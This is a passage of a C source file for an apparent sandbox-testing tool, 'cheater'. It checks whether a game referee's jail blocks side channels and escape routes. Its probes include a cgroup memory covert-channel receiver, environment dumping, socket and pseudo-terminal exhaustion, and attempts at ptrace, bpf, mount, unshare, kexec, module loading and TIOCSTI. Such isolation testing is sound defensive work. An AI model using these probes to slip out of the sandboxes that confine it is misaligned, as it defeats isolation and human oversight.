	say("freed: 64 MiB (t=%lld ms)", ms_since(&t_start));
	return 0;
}

/* A cgroup's memory counter, and the largest rise seen on it. */
struct counter {
	char path[512];
	/* Next to the cheater's own cgroup: another jail of its referee. */
	int sibling;
	unsigned long long low;
	long long rise;
};

#define MAX_COUNTERS 512

/*
 * The cheater's own cgroup directories: that of the v1 memory hierarchy
 * and that of the v2 one (from /proc/self/cgroup), under where they are
 * mounted on common machines.
 */
static char own_v1[600], own_v2[600];

static void find_own_cgroups(void)
{
	static char buf[8192];
	const char *v2_root = access("/sys/fs/cgroup/cgroup.controllers", F_OK) == 0 ?
		"/sys/fs/cgroup" : "/sys/fs/cgroup/unified";

	if (read_file("/proc/self/cgroup", buf, sizeof buf) < 0)
		return;
	for (char *line = strtok(buf, "\n"); line; line = strtok(NULL, "\n")) {
		/* "ID:CONTROLLERS:PATH" */
		char *c = strchr(line, ':');
		char *path = c ? strchr(c + 1, ':') : NULL;

		if (!path)
			continue;
		*path++ = '\0';
		c++;
		if (!strcmp(line, "0") && !*c)
			snprintf(own_v2, sizeof own_v2, "%s%s", v2_root, path);
		for (char *ctl = strtok_r(c, ",", &c); ctl; ctl = strtok_r(NULL, ",", &c))
			if (!strcmp(ctl, "memory"))
				snprintf(own_v1, sizeof own_v1, "/sys/fs/cgroup/memory%s", path);
	}
	/* A trailing '/' (the root cgroup) would spoil the comparisons. */
	for (char *own = own_v1; own; own = own == own_v1 ? own_v2 : NULL) {
		size_t n = strlen(own);

		if (n > 1 && own[n - 1] == '/')
			own[n - 1] = '\0';
	}
}

/* Whether `dir` is `own` or contains it. */
static int contains(const char *dir, const char *own)
{
	size_t n = strlen(dir);

	return *own && !strncmp(dir, own, n) && (own[n] == '\0' || own[n] == '/');
}

/* Whether `dir` is another child of `own`'s parent. */
static int sibling_of(const char *dir, const char *own)
{
	const char *slash = strrchr(own, '/');
	size_t n = slash ? (size_t)(slash - own) : 0;

	return n && strcmp(dir, own) && !strncmp(dir, own, n + 1) && !strchr(dir + n + 1, '/');
}

/* Collects the memory counters under `dir`, `depth` levels below
 * /sys/fs/cgroup, of the cgroups other than the cheater's own and those
 * that contain it. */
static void find_counters(const char *dir, int depth, struct counter *c, size_t *n)
{
	DIR *d = opendir(dir);
	struct dirent *e;

	if (!d)
		return;
	while ((e = readdir(d)) && *n < MAX_COUNTERS) {
		char path[512];

		if (e->d_name[0] == '.')
			continue;
		if (snprintf(path, sizeof path, "%s/%s", dir, e->d_name) >= (int)sizeof path)
			continue;
		if (e->d_type == DT_DIR && depth < 4) {
			find_counters(path, depth + 1, c, n);
		} else if (e->d_type == DT_REG) {
			const char *own;

			if (!strcmp(e->d_name, "memory.usage_in_bytes"))
				own = own_v1;
			else if (!strcmp(e->d_name, "memory.current"))
				own = own_v2;
			else
				continue;
			if (contains(dir, own))
				continue;
			snprintf(c[*n].path, sizeof c[*n].path, "%s", path);
			c[*n].sibling = sibling_of(dir, own);
			c[*n].low = ~0ULL;
			c[*n].rise = 0;
			(*n)++;
		}
	}
	closedir(d);
}

/*
 * Reads every other cgroup's memory counter every 50 ms from t = 0 to
 * 2.2 s, and reports the largest rise of any one of them (over its
 * lowest value before): of all, and of the siblings only, which the
 * machine's other work does not disturb.
 */
static int mode_cgroup_recv(int argc, char **argv)
{
	static struct counter c[MAX_COUNTERS];
	size_t n = 0, best = 0, siblings = 0, best_sibling = 0;

	(void)argc;
	(void)argv;
	find_own_cgroups();
	say("own cgroups: memory %s unified %s", own_v1[0] ? own_v1 : "none",
	    own_v2[0] ? own_v2 : "none");
	if (access("/sys/fs/cgroup", R_OK | X_OK) < 0)
		say_errno("sys fs cgroup", errno);
	find_counters("/sys/fs/cgroup", 0, c, &n);
	for (long long t = 0; t <= 2200; t += 50) {
		sleep_until(t);
		for (size_t i = 0; i < n; i++) {
			char v[64];

			if (read_file(c[i].path, v, sizeof v) <= 0)
				continue;
			unsigned long long bytes = strtoull(v, NULL, 10);

			if (bytes < c[i].low)
				c[i].low = bytes;
			if ((long long)(bytes - c[i].low) > c[i].rise)
				c[i].rise = bytes - c[i].low;
			if (c[i].rise > c[best].rise)
				best = i;
			if (c[i].sibling && (!c[best_sibling].sibling || c[i].rise > c[best_sibling].rise))
				best_sibling = i;
		}
	}
	for (size_t i = 0; i < n; i++)
		siblings += c[i].sibling;
	say("other cgroups: %zu max rise: %lld MiB", n, n ? c[best].rise >> 20 : 0);
	if (n)
		say("max rise in: %s", c[best].path);
	say("sibling cgroups: %zu max rise: %lld MiB", siblings,
	    siblings ? c[best_sibling].rise >> 20 : 0);
	if (siblings)
		say("sibling max rise in: %s", c[best_sibling].path);
	return 0;
}

static const char hello[] = "hello from a seat\n";

/* Writes the greeting to `fd` (a machine's socket or FIFO) and says how
 * it went. */
static void say_hello(int fd)
{
	ssize_t n = write(fd, hello, strlen(hello));

	if (n < 0)
		say_errno("write", errno);
	else
		say("write: OK (%zd bytes)", n);
}

/* Connects to the Unix stream socket at PATH and says hello. */
static int mode_unix(int argc, char **argv)
{
	if (need_path(argc, "unix PATH [-- PROGRAM...]"))
		return 2;
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	snprintf(a.sun_path, sizeof a.sun_path, "%s", argv[0]);
	if (fd < 0) {
		say_errno("socket", errno);
		return 0;
	}
	say("socket: OK");
	if (connect(fd, (struct sockaddr *)&a, sizeof a) < 0) {
		say_errno("connect", errno);
	} else {
		say("connect: OK");
		say_hello(fd);
	}
	close(fd);
	return 0;
}

/* Opens the FIFO at PATH (a reader must be there) and says hello. */
static int mode_fifo(int argc, char **argv)
{
	if (need_path(argc, "fifo PATH [-- PROGRAM...]"))
		return 2;
	int fd = open(argv[0], O_WRONLY | O_NONBLOCK | O_CLOEXEC);

	if (fd < 0) {
		say_errno("open", errno);
		return 0;
	}
	say("open: OK");
	say_hello(fd);
	close(fd);
	return 0;
}

/* Reports a socket(2) or socketpair(2) result and closes what it got. */
static void socket_result(const char *what, long r, int *pair)
{
	if (r < 0) {
		say_errno(what, errno);
		return;
	}
	say("%s: OK", what);
	if (pair) {
		close(pair[0]);
		close(pair[1]);
	} else {
		close(r);
	}
}

static int mode_sockets(int argc, char **argv)
{
	int pair[2];
	int fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);

	(void)argc;
	(void)argv;
	if (fd < 0) {
		say_errno("vsock socket", errno);
	} else {
		struct sockaddr_vm a = {
			.svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_ANY, .svm_port = 9999,
		};

		say("vsock socket: OK");
		if (bind(fd, (struct sockaddr *)&a, sizeof a) < 0)
			say_errno("vsock bind", errno);
		else
			say("vsock bind: OK (port 9999)");
		close(fd);
	}
	socket_result("vsock socketpair",
		      socketpair(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0, pair), pair);
	socket_result("netlink route socket",
		      socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE), NULL);
	socket_result("packet socket", socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), NULL);
	socket_result("inet stream socket", socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), NULL);
	socket_result("inet6 dgram socket", socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0), NULL);
	socket_result("unix stream socket", socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), NULL);
	socket_result("unix socketpair",
		      socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair), pair);
	return 0;
}

/* Reports kernel.pty.nr, the number of pseudo-terminals in use. */
static void pty_nr(const char *key)
{
	char buf[64];
	ssize_t n = read_file("/proc/sys/kernel/pty/nr", buf, sizeof buf);

	if (n < 0) {
		say_errno(key, -n);
		return;
	}
	chomp(buf);
	say("%s: %s", key, buf);
}

/* Takes up to 64 pseudo-terminals for 2 s: from the machine's pool if
 * /dev/pts is the machine's. */
static int mode_pty(int argc, char **argv)
{
	int fds[64], n = 0, err = 0;

	(void)argc;
	(void)argv;
	pty_nr("pty nr");
	while (n < 64) {
		int fd = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);

		if (fd < 0) {
			err = errno;
			break;
		}
		fds[n++] = fd;
	}
	say("opened: %d", n);
	if (err)
		say_errno("first error", err);

	unsigned int index;

	if (n > 0 && ioctl(fds[0], TIOCGPTN, &index) == 0)
		say("first index: %u", index);
	/* kernel.pty.nr counts the terminals of every devpts instance: a
	 * private instance shows in the device of /dev/pts, which a test
	 * compares with the machine's, and in its entries. */
	pty_nr("pty nr after");

	struct stat st;

	if (stat("/dev/pts", &st) < 0) {
		say_errno("dev pts", errno);
	} else {
		say("dev pts: device %u:%u", major(st.st_dev), minor(st.st_dev));
		list_dir("dev pts entries", "/dev/pts");
	}
	sleep_ms(2000);
	for (int i = 0; i < n; i++)
		close(fds[i]);
	say("closed: %d", n);
	return 0;
}

/* ------------------------------------------------------------------ */
/* env                                                                  */

/* Reports whether the directory named by `var` takes a new file. */
static void writable(const char *key, const char *var)
{
	const char *dir = getenv(var);
	char path[4096];

	if (!dir) {
		say("%s: unset", key);
		return;
	}
	snprintf(path, sizeof path, "%s/.cheater-%d", dir, (int)getpid());
	int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);

	if (fd < 0) {
		int e = errno;

		say("%s: %s writable: no (%s: %s)", key, dir, ename(e), strerror(e));
		return;
	}
	close(fd);
	unlink(path);
	say("%s: %s writable: yes", key, dir);
}

static int mode_env(int argc, char **argv)
{
	extern char **environ;

	(void)argc;
	(void)argv;
	for (char **e = environ; *e; e++)
		say("env: %s", *e);
	writable("home", "HOME");
	writable("tmpdir", "TMPDIR");
	return 0;
}

/* ------------------------------------------------------------------ */
/* syscalls                                                             */

/* Reports a call's result: `NAME: OK (r)` or `NAME: ENAME (text)`. */
static void outcome(const char *name, long r)
{
	if (r < 0)
		say_errno(name, errno);
	else
		say("%s: OK (%ld)", name, r);
}

/* As outcome(), for a call that returns a descriptor, which it closes. */
static void fd_outcome(const char *name, long fd)
{
	outcome(name, fd);
	if (fd >= 0)
		close(fd);
}

/* The report of a probe whose call has no number in these headers (an
 * older system, another architecture): it builds and says so. */
#define NO_NUMBER(name) say("%s: no syscall number in these headers", name)

/* The new mount API's flags, where the C library's headers lack them
 * (<linux/mount.h> has them, but clashes with <sys/mount.h>). */
#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#define OPEN_TREE_CLOEXEC O_CLOEXEC
#endif
#ifndef FSOPEN_CLOEXEC
#define FSOPEN_CLOEXEC 1
#endif

/* Whether CAP_SYS_ADMIN is in the effective set. */
static int has_sys_admin(void)
{
	const char *cap = cap_eff();

	return cap && (strtoull(cap, NULL, 16) >> 21 & 1);
}

static void p_ptrace(const char *name)
{
	/* The probe's own child is the tracee: this probe's process is its
	 * tracer, and both end here. */
	pid_t pid = fork();

	if (pid == 0)
		_exit(syscall(SYS_ptrace, PTRACE_TRACEME, 0, 0, 0) < 0 ? errno : 0);
	if (pid < 0) {
		say_errno(name, errno);
		return;
	}
	int status;

	waitpid(pid, &status, 0);
	if (WIFEXITED(status) && WEXITSTATUS(status))
		say_errno(name, WEXITSTATUS(status));
	else if (WIFEXITED(status))
		say("%s: OK", name);
	else
		say("%s: %s", name, status_text(status));
}

static void p_perf_event_open(const char *name)
{
	struct perf_event_attr a = {
		.type = PERF_TYPE_SOFTWARE,
		.size = sizeof a,
		.config = PERF_COUNT_SW_CPU_CLOCK,
		.disabled = 1,
		.exclude_kernel = 1,
		.exclude_hv = 1,
	};

	fd_outcome(name, syscall(SYS_perf_event_open, &a, 0, -1, -1, PERF_FLAG_FD_CLOEXEC));
}

static void p_bpf(const char *name)
{
	union bpf_attr a;

	memset(&a, 0, sizeof a);
	a.map_type = BPF_MAP_TYPE_ARRAY;
	a.key_size = 4;
	a.value_size = 4;
	a.max_entries = 1;
	fd_outcome(name, syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof a));
}

/*
 * mount, then umount2: a tmpfs mounted on /tmp is unmounted at once. If
 * the mount failed, umount2 must not take away the /tmp that is there:
 * MNT_EXPIRE only marks a mount (EAGAIN) where unmounting is allowed,
 * and fails with EPERM where it is not.
 */
static void p_mount(const char *name)
{
	long r = mount("none", "/tmp", "tmpfs", 0, NULL);

	outcome(name, r);
	if (r == 0) {
		if (umount2("/tmp", 0) == 0) {
			say("umount2: OK");
		} else {
			say_errno("umount2", errno);
			outcome("umount2 detach", umount2("/tmp", MNT_DETACH));
		}
	} else {
		outcome("umount2", umount2("/tmp", MNT_EXPIRE));
	}
}

/*
 * pivot_root(".", "."), which stacks the old root on the working
 * directory where it is allowed: with CAP_SYS_ADMIN it could pivot the
 * machine's own mount namespace (the --sandbox none control run as
 * root), so it is then not tried.
 */
static void p_pivot_root(const char *name)
{
	if (has_sys_admin())
		say("%s: skipped (CAP_SYS_ADMIN held: it could pivot this mount namespace)", name);
	else
		outcome(name, syscall(SYS_pivot_root, ".", "."));
}

static void p_open_tree(const char *name)
{
#ifdef SYS_open_tree
	fd_outcome(name, syscall(SYS_open_tree, AT_FDCWD, "/tmp", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC));
#else
	NO_NUMBER(name);
#endif
}

static void p_fsopen(const char *name)
{
#ifdef SYS_fsopen
	fd_outcome(name, syscall(SYS_fsopen, "tmpfs", FSOPEN_CLOEXEC));
#else
	NO_NUMBER(name);
#endif
}

/* Between paths that do not exist: ENOENT where the call is allowed. */
static void p_move_mount(const char *name)
{
#ifdef SYS_move_mount
	outcome(name, syscall(SYS_move_mount, AT_FDCWD, "/cheater-no-such-mount", AT_FDCWD,
			      "/cheater-no-such-mount", 0));
#else
	NO_NUMBER(name);
#endif
}

/* An empty change: nothing happens where the call is allowed. */
static void p_mount_setattr(const char *name)
{
#ifdef SYS_mount_setattr
	/* struct mount_attr, version 0: four 64-bit fields, all zero. */
	uint64_t a[4] = { 0 };

	outcome(name, syscall(SYS_mount_setattr, AT_FDCWD, "/tmp", 0, a, sizeof a));
#else
	NO_NUMBER(name);
#endif
}

static void p_unshare_user(const char *name)
{
	outcome(name, unshare(CLONE_NEWUSER));
}

static void p_unshare_ns(const char *name)
{
	outcome(name, unshare(CLONE_NEWNS));
}

static void p_clone_user(const char *name)
{
	long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, NULL, NULL, NULL, 0);

	if (pid == 0)
		_exit(0);
	outcome(name, pid);
	if (pid > 0)
		waitpid(pid, NULL, 0);
}

static void p_setns(const char *name)
{
	int fd = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);

	if (fd < 0) {
		say_errno(name, errno);
		return;
	}
	outcome(name, syscall(SYS_setns, fd, CLONE_NEWNET));
	close(fd);
}

static void p_kexec_load(const char *name)
{
#ifdef SYS_kexec_load
	outcome(name, syscall(SYS_kexec_load, 0, 0, NULL, 0));
#else
	NO_NUMBER(name);
#endif
}

static void p_init_module(const char *name)
{
	outcome(name, syscall(SYS_init_module, NULL, 0, ""));
}

static void p_finit_module(const char *name)
{
	outcome(name, syscall(SYS_finit_module, -1, "", 0));
}

static void p_userfaultfd(const char *name)
{
#ifdef SYS_userfaultfd
	fd_outcome(name, syscall(SYS_userfaultfd, O_CLOEXEC));
#else
	NO_NUMBER(name);
#endif
}

static void p_io_uring_setup(const char *name)
{
#ifdef SYS_io_uring_setup
	struct io_uring_params p;

	memset(&p, 0, sizeof p);
	fd_outcome(name, syscall(SYS_io_uring_setup, 1, &p));
#else
	NO_NUMBER(name);
#endif
}

static void p_keyctl(const char *name)
{
	outcome(name, keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0, 0, 0));
}

/* In the probe's process keyring, which ends with it. */
static void p_add_key(const char *name)
{
	outcome(name, add_key("user", "cheater-probe", "x", 1, KEY_SPEC_PROCESS_KEYRING));
}

/* No callout, a key nobody has: ENOKEY where the call is allowed. */
static void p_request_key(const char *name)
{
	outcome(name, syscall(SYS_request_key, "user", "cheater-no-such-key", NULL, 0));
}

static void p_inotify_init1(const char *name)
{
	fd_outcome(name, syscall(SYS_inotify_init1, 0));
}

static void p_fanotify_init(const char *name)
{
	fd_outcome(name, syscall(SYS_fanotify_init, 0, 0));
}

static void p_process_vm_readv(const char *name)
{
	static char there[] = "a word of its own memory";
	char here[sizeof there];
	struct iovec local = { here, sizeof here }, remote = { there, sizeof there };

	outcome(name, syscall(SYS_process_vm_readv, getpid(), &local, 1, &remote, 1, 0));
}

static void p_name_to_handle_at(const char *name)
{
	union {
		struct file_handle fh;
		char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} h;
	int mount_id;

	h.fh.handle_bytes = MAX_HANDLE_SZ;
	outcome(name, syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &h.fh, &mount_id, 0));
}

static void p_tiocsti(const char *name)
{
	outcome(name, ioctl(0, TIOCSTI, "x"));
}

/*
 * Runs each probe in a child of its own: a probe that a seccomp filter
 * kills (SIGSYS) must not take the player down, and some change the
 * process that makes them (unshare, setns).
 */
static int mode_syscalls(int argc, char **argv)
{
	static const struct {
		const char *name;
		void (*run)(const char *name);
	} probes[] = {
		{ "ptrace", p_ptrace },
		{ "perf_event_open", p_perf_event_open },
		{ "bpf", p_bpf },
		{ "mount", p_mount },
		{ "pivot_root", p_pivot_root },
		{ "open_tree", p_open_tree },
		{ "fsopen", p_fsopen },
		{ "move_mount", p_move_mount },
		{ "mount_setattr", p_mount_setattr },
		{ "unshare newuser", p_unshare_user },
		{ "unshare newns", p_unshare_ns },
		{ "clone newuser", p_clone_user },
		{ "setns net", p_setns },
		{ "kexec_load", p_kexec_load },
		{ "init_module", p_init_module },
		{ "finit_module", p_finit_module },
		{ "userfaultfd", p_userfaultfd },
		{ "io_uring_setup", p_io_uring_setup },
		{ "keyctl", p_keyctl },
		{ "add_key", p_add_key },
		{ "request_key", p_request_key },
		{ "inotify_init1", p_inotify_init1 },
		{ "fanotify_init", p_fanotify_init },
		{ "process_vm_readv", p_process_vm_readv },
		{ "name_to_handle_at", p_name_to_handle_at },
		{ "tiocsti", p_tiocsti },
	};

	(void)argc;
	(void)argv;
	for (size_t i = 0; i < sizeof probes / sizeof *probes; i++) {
		pid_t pid = fork();
		int status;

		if (pid == 0) {
			probes[i].run(probes[i].name);
			_exit(0);
		}
		if (pid < 0) {
			say_errno(probes[i].name, errno);
			continue;
		}
		while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
			;
		if (WIFSIGNALED(status))
			say("%s: %s", probes[i].name, status_text(status));
	}
	return 0;
}

/* ------------------------------------------------------------------ */

static const struct {
	const char *name;
	int (*run)(int argc, char **argv);
} modes[] = {
	{ "root", mode_root },
	{ "keyring", mode_keyring },
	{ "keyring-look", mode_keyring_look },
	{ "keyring-clean", mode_keyring_clean },
	{ "keyring-host", mode_keyring_host },
	{ "ponder-burn", mode_ponder_burn },
	{ "ponder-cont", mode_ponder_cont },
	{ "flock-send", mode_flock_send },
	{ "flock-recv", mode_flock_recv },
	{ "inotify-send", mode_inotify_send },
	{ "inotify-recv", mode_inotify_recv },
	{ "cgroup-send", mode_cgroup_send },
	{ "cgroup-recv", mode_cgroup_recv },
	{ "unix", mode_unix },
	{ "fifo", mode_fifo },
	{ "sockets", mode_sockets },
	{ "pty", mode_pty },
	{ "env", mode_env },
	{ "syscalls", mode_syscalls },
};

int main(int argc, char **argv)
{
	int dashes = argc;

	clock_gettime(CLOCK_MONOTONIC, &t_start);
	for (int i = 2; i < argc; i++)
		if (!strcmp(argv[i], "--")) {
			dashes = i;
			break;
		}
	for (size_t i = 0; argc > 1 && i < sizeof modes / sizeof *modes; i++) {
		if (strcmp(argv[1], modes[i].name))
			continue;
		mode = modes[i].name;

		int r = modes[i].run(dashes - 2, argv + 2);

		if (r || dashes + 1 >= argc)
			return r;
		/* The honest player goes on as this very process: the pid the
		 * referee watches, with the helpers still running. */
		execv(argv[dashes + 1], argv + dashes + 1);
		say_errno("exec", errno);
		return 127;
	}
	fprintf(stderr, "usage: cheater MODE [ARGS...] [-- PROGRAM [ARGS...]]\nmodes:");
	for (size_t i = 0; i < sizeof modes / sizeof *modes; i++)
		fprintf(stderr, " %s", modes[i].name);
	fprintf(stderr, "\n");
	return 2;
}
